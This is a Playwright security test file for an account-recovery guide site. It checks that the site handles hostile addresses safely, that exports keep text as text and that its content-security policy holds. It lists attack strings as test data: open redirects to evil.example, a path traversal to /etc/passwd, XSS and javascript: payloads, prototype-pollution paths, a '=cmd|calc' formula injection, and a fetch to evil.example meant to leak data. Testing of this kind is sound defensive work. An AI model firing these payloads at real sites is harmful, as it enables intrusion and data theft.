import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test as bare } from '@playwright/test';
import { dist } from '../browser/dist.ts';
import { expect, test } from '../browser/page.ts';

const hostile = [
  '//evil.example',
  '//evil.example/guides/activation-code-expired',
  '/\\evil.example',
  '/guides//evil.example/%2F%2Fevil.example',
  '/guides/activation-code-expired/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/guides/activation-code-expired/javascript:alert(1)',
  '/javascript:alert(1)//',
  '/guides/__proto__/constructor/prototype',
  '/guides/activation-code-expired/yes~%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/guides/activation-code-expired/%00',
  '/guides/%F0%9F%98%80%E2%80%AE',
  '/codes/onespan/__proto__',
  '/codes/javascript:alert(1)',
  '/codes/%E0%A4%A',
  '/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
  '/?q=%E0%A4%A',
  '/open?c=https://evil.example/guides/activation-code-expired/yes',
  '/open?c=%3Cscript%3Ealert(1)%3C/script%3E',
  '/desk/__proto__',
  '/train/..%2f..%2f',
  '/%',
  '/%%%',
  '/guides/activation-code-expired?was=__proto__/constructor&r=%00',
];

for (const address of hostile) {
  test(`promise 12: ${address} gets a friendly page, leads nowhere else and breaks nothing`, async ({
    page,
    baseURL,
  }) => {
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(baseURL + address);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await expect(page.locator('[data-kind="recovery"]')).toHaveCount(0);
    expect(new URL(page.url()).origin).toBe(baseURL);
    expect(await page.locator('img[onerror], script:not([src])').count()).toBe(0);
    for (const href of await page
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)))
      expect(href).toMatch(/^(https?|mailto|tel):/);
    expect(dialogs).toEqual([]);
  });
}

test('promise 12: 10,000 segments are refused by the server or answered by a page; typed into the page they break nothing', async ({
  page,
  baseURL,
}) => {
  await page.goto('/guides/activation-code-expired');
  const long = `/guides/activation-code-expired/${'yes/'.repeat(10_000)}`;
  const started = Date.now();
  await page.evaluate((address) => {
    window.history.pushState(null, '', address);
    window.dispatchEvent(new PopStateEvent('popstate'));
  }, long);
  await expect(page.locator('[data-kind="misfit"]')).toBeVisible();
  expect(Date.now() - started).toBeLessThan(20_000);
  await page.locator('[data-answer="go-on"]').click();
  await expect(page.locator('[data-node]')).toBeVisible();
  expect(new URL(page.url()).origin).toBe(baseURL);
});

/** Breaks a flow's step in the browser: its file arrives with a step that no view knows. */
bare(
  'promise 13: a step that throws gives a recovery screen, with the address, and the summary where it can be made',
  async ({ page, baseURL }) => {
    const folder =
      readdirSync(join(dist, 'assets')).find((name) => name.startsWith('flows-')) ?? '';
    await page.route(`**/assets/${folder}/activation-code-expired.js`, async (route) => {
      const answer = await route.fetch();
      const text = await answer.text();
      // What a step's view shows turns into something that it cannot show.
      const broken = text.replace(/listenFor:\s*\[/g, 'why:5,shows:5,listenFor:[');
      expect(broken).not.toBe(text);
      await route.fulfill({ response: answer, body: broken });
    });
    await page.goto('/');
    await page.getByRole('link', { name: 'The activation code has expired' }).first().click();
    const recovery = page.locator('[data-kind="recovery"]');
    for (let i = 0; i < 6 && (await recovery.count()) === 0; i += 1) {
      await page.waitForTimeout(700);
      const next = page.locator('.signs [data-answer]').first();
      if ((await next.count()) > 0) await next.click();
    }
    await expect(recovery.getByRole('heading', { level: 1 })).toHaveText(
      'This page could not be shown',
    );
    await expect(recovery.getByRole('textbox').first()).toHaveValue(page.url());
    expect(page.url()).toContain(`${baseURL}/guides/activation-code-expired`);
    await expect(recovery.locator('[data-summary="text"]')).toContainText(
      'activation-code-expired',
    );
    // From here every other guide is one click away.
    await recovery.getByRole('link', { name: 'See all guides' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText('Locked out?');
  },
);

test('promise 16: hostile text in an address stays text in every export and on screen', async ({
  page,
}) => {
  const texts = [
    '=cmd|calc',
    '<img src=x onerror=alert(1)>',
    '[code](javascript:alert(1))',
    '\u202Etxt',
  ];
  for (const text of texts) {
    await page.goto(
      `/guides/activation-code-expired/something-else~${encodeURIComponent(text)}/hand-over`,
    );
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
  }
});

bare(
  'promise 18: a request to another origin, an inline script, eval or a foreign policy is refused',
  async ({ page }) => {
    const violations: string[] = [];
    await page.exposeFunction('heard', (directive: string) => violations.push(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) =>
        (window as unknown as { heard: (directive: string) => void }).heard(
          event.effectiveDirective,
        ),
      );
    });
    await page.goto('/guides/activation-code-expired');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(violations).toEqual([]);
    const tried = await page.evaluate(async () => {
      const attempt = async (what: () => unknown) => {
        try {
          await what();
          return 'done';
        } catch {
          return 'refused';
        }
      };
      return {
        fetch: await attempt(() => fetch('https://evil.example/?leak')),
        html: await attempt(() => {
          document.createElement('div').innerHTML = '<b>x</b>';
        }),
        policy: await attempt(() =>
          (
            window as unknown as {
              trustedTypes: { createPolicy: (name: string, rules: object) => void };
            }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        script: await attempt(() => {
          const script = document.createElement('script');
          script.textContent = 'window.evil = true';
          document.head.append(script);
          if (!('evil' in window)) throw new Error('it did not run');
        }),
        worker: await attempt(() => navigator.serviceWorker.constructor && new Worker('/sw.js')),
      };
    });
    expect(tried).toEqual({
      fetch: 'refused',
      html: 'refused',
      policy: 'refused',
      script: 'refused',
      worker: 'refused',
    });
    await expect.poll(() => violations).toContain('connect-src');
  },
);
